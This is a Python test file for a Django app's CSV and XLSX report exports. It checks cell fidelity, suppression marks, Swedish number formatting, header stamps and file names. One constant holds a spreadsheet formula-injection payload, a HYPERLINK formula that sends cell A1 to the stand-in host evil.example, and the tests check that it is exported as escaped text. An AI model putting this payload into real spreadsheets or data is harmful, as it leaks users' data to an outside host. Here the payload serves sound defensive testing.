"""The CSV and XLSX exports of a built report (reports/exports.py): the same cells as the stored results, which
the PDF and the report page show too; marks ("<5", "x", "..") as text and numbers as numbers; a header that says
what the numbers are of and how fresh; nothing a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from copy import deepcopy
from datetime import date
from typing import Any

import pytest
from django.utils import timezone, translation
from django.utils.formats import number_format
from openpyxl import load_workbook  # type: ignore[import-untyped]

from reports import exports
from reports.definitions import DEFINITIONS
from reports.models import Report
from reports.results import sections
from reports.suppression import MISSING_MARK, PRIMARY_MARK, WITHHELD_MARK

CELLS = exports.CELL_COLUMNS
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'


@pytest.fixture
def report(world: dict[str, Any]) -> Report:
    """Malmö's built quarterly report, with a "<5" and an "x" among its cells and a hostile indicator source."""
    built: Report = world["malmo_report"]
    results = deepcopy(built.results)
    assert results is not None
    for row in results["metrics"]:
        if row["key"] == "exit.relocations":
            row |= {"value": PRIMARY_MARK, "change_previous": WITHHELD_MARK, "change_previous_percent": WITHHELD_MARK}
        if row["key"] == "incidents.shootings":
            row |= {"change_previous": -3, "change_previous_percent": -12.5}
    police_hours = next(row for row in results["indicators"] if row["kind"] == "police_hours")
    police_hours["values"][-1]["source"] = INJECTION
    built.results = results
    return built


def _expected_metric_rows(results: dict[str, Any]) -> list[list[Any]]:
    return [
        [str(section.title), str(DEFINITIONS[row["key"]].title), *(row[cell] for cell in CELLS), row["key"]]
        for section, rows in sections(results)
        for row in rows
    ]


def _csv_rows(report: Report) -> list[list[str]]:
    content = exports.csv_bytes(report)
    assert content.startswith("\ufeff".encode())  # Excel then reads å, ä, ö
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def _table(rows: list[list[Any]], first_header: str) -> list[list[Any]]:
    """The rows under the header row that starts with `first_header`, up to the next empty row."""
    start = next(i for i, row in enumerate(rows) if row and row[0] == first_header) + 1
    table = []
    for row in rows[start:]:
        if not row or all(cell in (None, "") for cell in row):
            break
        table.append(list(row))
    return table


def _csv_text(value: Any) -> str:
    return value if isinstance(value, str) else number_format(value, use_l10n=True)


# --- CSV --------------------------------------------------------------------------------------------------


def test_the_csv_holds_the_same_cells_as_the_results(report: Report) -> None:
    with translation.override("en"):
        rows = _csv_rows(report)
        expected = [[_csv_text(cell) for cell in row] for row in _expected_metric_rows(report.results or {})]
    assert _table(rows, "Section") == expected
    relocations = next(row for row in _table(rows, "Section") if row[-1] == "exit.relocations")
    assert relocations[2] == PRIMARY_MARK
    assert relocations[5:7] == [WITHHELD_MARK, WITHHELD_MARK]


def test_the_csv_is_for_swedish_excel(report: Report) -> None:
    """Semicolons between cells and, in Swedish, a decimal comma; a negative number is a number, not a formula."""
    with translation.override("sv"):
        rows = _csv_rows(report)
    assert rows[7] == []  # the stamps, an empty line, then the table's header
    shootings = next(row for row in _table(rows, rows[8][0]) if row[-1] == "incidents.shootings")
    assert shootings[5:7] == ["-3", "-12,5"]
    with translation.override("en"):
        english = _csv_rows(report)
    assert english[8][:3] == ["Section", "Metric", "Value"]


def test_the_csv_indicators_show_missing_values_as_missing_and_a_formula_as_text(report: Report) -> None:
    with translation.override("en"):
        indicators = _table(_csv_rows(report), "Goal")
    police_hours = [row for row in indicators if row[1] == "Police investigation hours on grave violence"]
    assert [row[2] for row in police_hours] == [v["label"] for v in report.results["indicators"][1]["values"]]  # type: ignore[index]
    assert police_hours[-1][5] == "'" + INJECTION  # never a formula
    assert police_hours[-2][3:] == [MISSING_MARK, "hours", "", ""]  # the quarter nobody entered


def test_the_csv_header_stamps_what_and_when(report: Report) -> None:
    with translation.override("en"):
        header = {row[0]: row[1] for row in _csv_rows(report)[:7]}
    assert header["Program"] == "Sluta skjut Malmö"
    assert header["Period"] == report.label
    assert header["Baseline year"] == "2019"
    assert header["Edition"] == "1"
    assert report.data_as_of is not None
    assert header["Data as of"] == timezone.localtime(report.data_as_of).strftime("%Y-%m-%d %H:%M")


# --- XLSX -------------------------------------------------------------------------------------------------


def _sheets(report: Report) -> Any:
    with translation.override("en"):
        return load_workbook(io.BytesIO(exports.xlsx_bytes(report)))


def _sheet_rows(sheet: Any) -> list[list[Any]]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_the_xlsx_holds_the_same_cells_with_numbers_as_numbers_and_marks_as_text(report: Report) -> None:
    workbook = _sheets(report)
    assert workbook.sheetnames == ["Metrics", "Indicators"]
    with translation.override("en"):
        expected = _expected_metric_rows(report.results or {})
    assert _table(_sheet_rows(workbook["Metrics"]), "Section") == expected
    sheet = workbook["Metrics"]
    for row in sheet.iter_rows(min_row=10):
        for cell in row[2:9]:
            if cell.value is None:
                continue
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
                assert cell.value in (PRIMARY_MARK, WITHHELD_MARK, MISSING_MARK)
            else:
                assert cell.data_type == "n"
    shootings = next(row for row in _sheet_rows(sheet) if row[-1] == "incidents.shootings")
    assert shootings[5:7] == [-3, -12.5]


def test_the_xlsx_indicators_and_a_formula_as_text(report: Report) -> None:
    sheet = _sheets(report)["Indicators"]
    rows = _table(_sheet_rows(sheet), "Goal")
    police_hours = [row for row in rows if row[1] == "Police investigation hours on grave violence"]
    current = police_hours[-1]
    assert current[3] == 2400
    assert current[5] == "'" + INJECTION
    assert isinstance(current[6], date)  # a date cell (openpyxl reads it back as a datetime)
    assert police_hours[-2][3] == MISSING_MARK
    formula_cells = [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formula_cells == []


def test_the_xlsx_header_stamps_what_and_when(report: Report) -> None:
    for sheet in _sheets(report):
        header = {row[0]: row[1] for row in _sheet_rows(sheet)[:7]}
        assert header["Program"] == "Sluta skjut Malmö"
        assert header["Period"] == report.label
        assert header["Baseline year"] == 2019
        assert header["Edition"] == 1


def test_the_file_names_name_program_period_and_edition(report: Report) -> None:
    assert exports.filename(report, "csv") == f"sluta-skjut-malmo-{report.label}-v1.csv"
    report.edition = 3
    assert exports.filename(report, "xlsx") == f"sluta-skjut-malmo-{report.label}-v3.xlsx"
